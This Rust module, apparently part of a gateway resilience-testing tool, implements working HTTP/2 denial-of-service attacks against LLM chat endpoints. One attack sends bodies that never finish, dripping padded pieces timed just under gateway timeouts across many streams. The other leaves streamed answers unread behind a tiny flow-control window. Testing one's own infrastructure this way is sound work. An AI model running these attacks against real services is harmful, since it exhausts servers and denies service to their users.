//! Attackers with many HTTP/2 streams on each connection: bodies that are sent
//! except for a rest, and answers that are not read beside a body that drips.

use std::collections::BTreeMap;
use std::pin::Pin;
use std::task::{Context, Poll};
use std::time::Duration;

use bytes::{Bytes, BytesMut};
use http_body_util::BodyExt;
use hyper::body::{Body, Frame as BodyFrame, SizeHint};
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, Interval, interval_at, sleep, timeout_at};

use super::attack::Attack;
use crate::client::{ClientError, Protocol, Target};
use crate::clock;
use crate::frames::{self, Ends, Frame, FrameKind};
use crate::outcome::Question;
use crate::run::chat_body;
use crate::scenario::AttackKind;

/// Bytes of an unfinished body: the largest that a gateway takes by default.
const BODY: usize = 2 << 20;

/// Bytes of a body that are held back, to be sent slowly.
const REST: usize = 64 * 1024;

/// Bytes in each piece of a slow body: a little more than a gateway wants by default.
const PIECE: usize = 1_100;

/// Time between two pieces of a slow body, if the scenario gives none: a little less
/// than a gateway grants by default.
const PACE: Duration = Duration::from_millis(3_500);

/// Time between the end of a stream or a connection and the next one.
const PAUSE: Duration = Duration::from_millis(500);

/// Bytes of an answer that the gateway may send unread.
const WINDOW: u32 = 1_024;

/// Keeps one connection open to every target until the attack ends.
pub(super) async fn run(attack: Attack, targets: Vec<Target>) {
    let mut connections = JoinSet::new();
    for target in targets {
        let attack = attack.clone();
        connections.spawn(async move {
            while clock::now() < attack.end {
                let ended = match attack.attacker.kind {
                    AttackKind::BodyFlood => send_bodies(&attack, &target).await,
                    _ => leave_unread(&attack, &target).await,
                };
                if let Err(error) = ended {
                    attack.count(error.kind());
                }
                sleep(PAUSE).await;
            }
        });
    }
    while connections.join_next().await.is_some() {}
}

/// A request body that is sent except for a rest, which follows slowly and not
/// completely.
struct UnfinishedBody {
    first: Option<Bytes>,
    pieces: usize,
    ticks: Interval,
}

impl UnfinishedBody {
    fn new(first: Bytes, pace: Duration) -> Self {
        let ticks = interval_at(clock::now() + pace, pace);
        // One piece less than the rest has: the body never ends.
        Self { first: Some(first), pieces: REST / PIECE - 1, ticks }
    }
}

impl Body for UnfinishedBody {
    type Data = Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        context: &mut Context<'_>,
    ) -> Poll<Option<Result<BodyFrame<Bytes>, Self::Error>>> {
        if let Some(first) = self.first.take() {
            return Poll::Ready(Some(Ok(BodyFrame::data(first))));
        }
        if self.pieces == 0 {
            return Poll::Pending;
        }
        self.ticks.poll_tick(context).map(|_| {
            self.pieces -= 1;
            Some(Ok(BodyFrame::data(Bytes::from_static(&[b' '; PIECE]))))
        })
    }

    fn size_hint(&self) -> SizeHint {
        SizeHint::with_exact(BODY as u64)
    }
}

/// Opens the streams of one connection and opens each again after it ended.
async fn send_bodies(attack: &Attack, target: &Target) -> Result<(), ClientError> {
    let tls = target.connect_tls(Protocol::Http2).await?;
    let (sender, driver) =
        http2::handshake::<_, _, UnfinishedBody>(TokioExecutor::new(), TokioIo::new(tls)).await?;
    let mut tasks = JoinSet::new();
    let first = Bytes::from(vec![b' '; BODY - REST]);
    for _ in 0..attack.attacker.streams {
        let (attack, target) = (attack.clone(), target.clone());
        let (mut sender, first) = (sender.clone(), first.clone());
        tasks.spawn(async move {
            while sender.ready().await.is_ok() {
                let body = UnfinishedBody::new(first.clone(), attack.attacker.pace.unwrap_or(PACE));
                let Ok(request) = post(&target, body) else { return };
                match sender.send_request(request).await {
                    Ok(response) => {
                        attack.count(&response.status().as_u16().to_string());
                        // The status is all that counts.
                        let _ = response.into_body().collect().await;
                    }
                    Err(_) => attack.count("stream reset"),
                }
                sleep(PAUSE).await;
            }
        });
    }
    drop(sender);
    // Dropping the driver closes the connection, and dropping the tasks resets their
    // streams.
    match timeout_at(attack.end, driver).await {
        Ok(_) => attack.count("connection closed by the gateway"),
        Err(_) => (0..tasks.len()).for_each(|_| attack.count("open at the end")),
    }
    Ok(())
}

fn post(
    target: &Target,
    body: UnfinishedBody,
) -> Result<http::Request<UnfinishedBody>, http::Error> {
    http::Request::post(format!("https://{}{}", target.authority(), Question::CHAT))
        .header(http::header::AUTHORIZATION, target.authorization())
        .header(http::header::CONTENT_TYPE, "application/json")
        .body(body)
}

/// The streams of a connection that reads no answer.
struct UnreadConnection<'a> {
    attack: &'a Attack,
    target: &'a Target,
    tls: tokio_rustls::client::TlsStream<tokio::net::TcpStream>,
    /// The number of the next stream.
    next: u32,
    /// The unread streams, with the begin of the answer once there is one.
    unread: BTreeMap<u32, Option<Instant>>,
    dripping: u32,
}

/// Keeps the streams of one connection unread, and one request dripping.
async fn leave_unread(attack: &Attack, target: &Target) -> Result<(), ClientError> {
    let tls = target.connect_tls(Protocol::Http2).await?;
    let mut connection =
        UnreadConnection { attack, target, tls, next: 1, unread: BTreeMap::new(), dripping: 0 };
    // An error is the end of the connection.
    let _ = timeout_at(attack.end, connection.play()).await;
    let is_over = clock::now() >= attack.end;
    for since in connection.unread.into_values().flatten() {
        if is_over {
            attack.still_open(since);
            attack.count("open at the end");
        } else {
            attack.closed(since);
            attack.count("ended with its connection");
        }
    }
    Ok(())
}

impl UnreadConnection<'_> {
    async fn play(&mut self) -> std::io::Result<()> {
        let mut bytes = frames::preface_with_window(WINDOW);
        bytes.extend(frames::settings_acknowledged());
        self.tls.write_all(&bytes).await?;
        self.open_drip().await?;
        for _ in 0..self.attack.attacker.streams {
            self.open_unread().await?;
        }
        let pace = self.attack.attacker.pace.unwrap_or(PACE);
        let mut ticks = interval_at(clock::now() + pace, pace);
        let mut buffer = BytesMut::with_capacity(16 * 1024);
        loop {
            tokio::select! {
                _ = ticks.tick() => {
                    let piece = frames::data(self.dripping, &[b' '; PIECE], Ends::Nothing);
                    self.tls.write_all(&piece).await?;
                    self.tls.flush().await?;
                }
                read = self.tls.read_buf(&mut buffer) => {
                    if read? == 0 {
                        return Ok(());
                    }
                    while let Some(frame) = Frame::take(&mut buffer) {
                        self.take(&frame).await?;
                    }
                }
            }
        }
    }

    async fn open_drip(&mut self) -> std::io::Result<()> {
        self.dripping = self.next;
        self.open(None).await
    }

    async fn open_unread(&mut self) -> std::io::Result<()> {
        let attacker = &self.attack.attacker;
        let prompt = attacker.prompts().swap_remove(0);
        let most = attacker.ask.max_tokens.unwrap_or(900);
        let body = chat_body(&self.attack.ground.scenario.model, &prompt, most, true);
        self.unread.insert(self.next, None);
        self.open(Some(&body)).await
    }

    /// Opens the next stream: a complete request, or one whose body follows.
    async fn open(&mut self, body: Option<&[u8]>) -> std::io::Result<()> {
        let authorization = String::from_utf8_lossy(self.target.authorization().as_bytes());
        let fields = [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", self.target.authority()),
            (":path", Question::CHAT),
            ("content-type", "application/json"),
            ("authorization", &authorization),
        ];
        let mut bytes = frames::headers(self.next, &fields, Ends::Nothing);
        if let Some(body) = body {
            bytes.extend(frames::data(self.next, body, Ends::Stream));
        }
        self.next += 2;
        self.tls.write_all(&bytes).await?;
        self.tls.flush().await
    }

    async fn take(&mut self, frame: &Frame) -> std::io::Result<()> {
        let ends = frame.kind == FrameKind::RST_STREAM || frame.ends_stream();
        if frame.stream == self.dripping && ends {
            self.attack.count("dripping request refused");
            // A refused drip must not turn into a flood.
            sleep(PAUSE).await;
            return self.open_drip().await;
        }
        let Some(begun) = self.unread.get_mut(&frame.stream) else { return Ok(()) };
        if frame.kind == FrameKind::HEADERS && frame.payload.first() == Some(&STATUS_200) {
            *begun = Some(clock::now());
            self.attack.count("answers begun");
        }
        if !ends {
            return Ok(());
        }
        match self.unread.remove(&frame.stream).flatten() {
            Some(since) => {
                self.attack.closed(since);
                self.attack.count("ended unread");
            }
            None => {
                self.attack.count("refused");
                sleep(PAUSE).await;
            }
        }
        self.open_unread().await
    }
}

/// The header `:status: 200` in HPACK: entry 8 of the static table (RFC 7541,
/// appendix A).
const STATUS_200: u8 = 0x88;
